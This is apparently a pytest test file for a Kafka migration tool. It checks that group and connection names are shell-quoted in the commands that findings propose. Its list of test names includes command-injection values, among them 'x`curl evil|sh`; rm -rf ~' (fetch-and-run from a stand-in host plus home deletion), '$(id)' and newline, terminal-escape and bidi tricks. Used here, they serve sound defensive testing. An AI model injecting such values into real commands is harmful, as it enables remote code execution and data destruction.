"""Rules of the commands that findings propose: names are words in them and nothing else."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kafka_migration.airflow_adapters.airflow_connections import connection_config
from kafka_migration.core.findings.errors import Refused
from kafka_migration.core.groups.group_writes import unknown_write
from kafka_migration.core.text.quoting import shell_word
from kafka_migration.core.validation.difference_words import kcat_command

BASH = shutil.which("bash") or "/bin/bash"
HOSTILE = [
    "x`curl evil|sh`; rm -rf ~",
    "$(id)",
    "a b",
    "it's",
    "",
    "-rf",
    "a\nb; id",
    "\x1b]0;t\x07",
    "\u202ename",
    "ü",
]
# No argument of a program can hold these.
NAMES = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20)


def read_back(word: str) -> str:
    """Return what a shell makes of a word."""
    # C.UTF-8 is what lets bash write letters beyond ASCII.
    done = subprocess.run(
        [BASH, "-c", f"printf %s {word}"], capture_output=True, env={"LC_ALL": "C.UTF-8", "PATH": "/nowhere"}
    )
    assert (0, b"") == (done.returncode, done.stderr)
    return done.stdout.decode()


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_one_word(name: str) -> None:
    """Nothing of a name is executed, and nothing of it can end the line."""
    assert name == read_back(shell_word(name))
    assert shell_word(name).isprintable()


@settings(max_examples=30)
@given(NAMES)
def test_any_name_is_one_word(name: str) -> None:
    """A shell reads back what was written."""
    assert name == read_back(shell_word(name))


@pytest.mark.parametrize("name", HOSTILE)
def test_remedies_quote_names(name: str) -> None:
    """The commands that findings propose hold names as words."""
    (finding,) = unknown_write(name, "lost").findings
    assert f"--group {shell_word(name)}`" in finding.remedy
    assert f"-t {shell_word(name)} " in kcat_command("$SOURCE", name, 0, 1)


def test_connection_is_quoted() -> None:
    """So is the id of a connection that does not exist."""
    with pytest.raises(Refused, match=r"airflow connections add 'a b;id' --conn-type"):
        connection_config("a b;id")
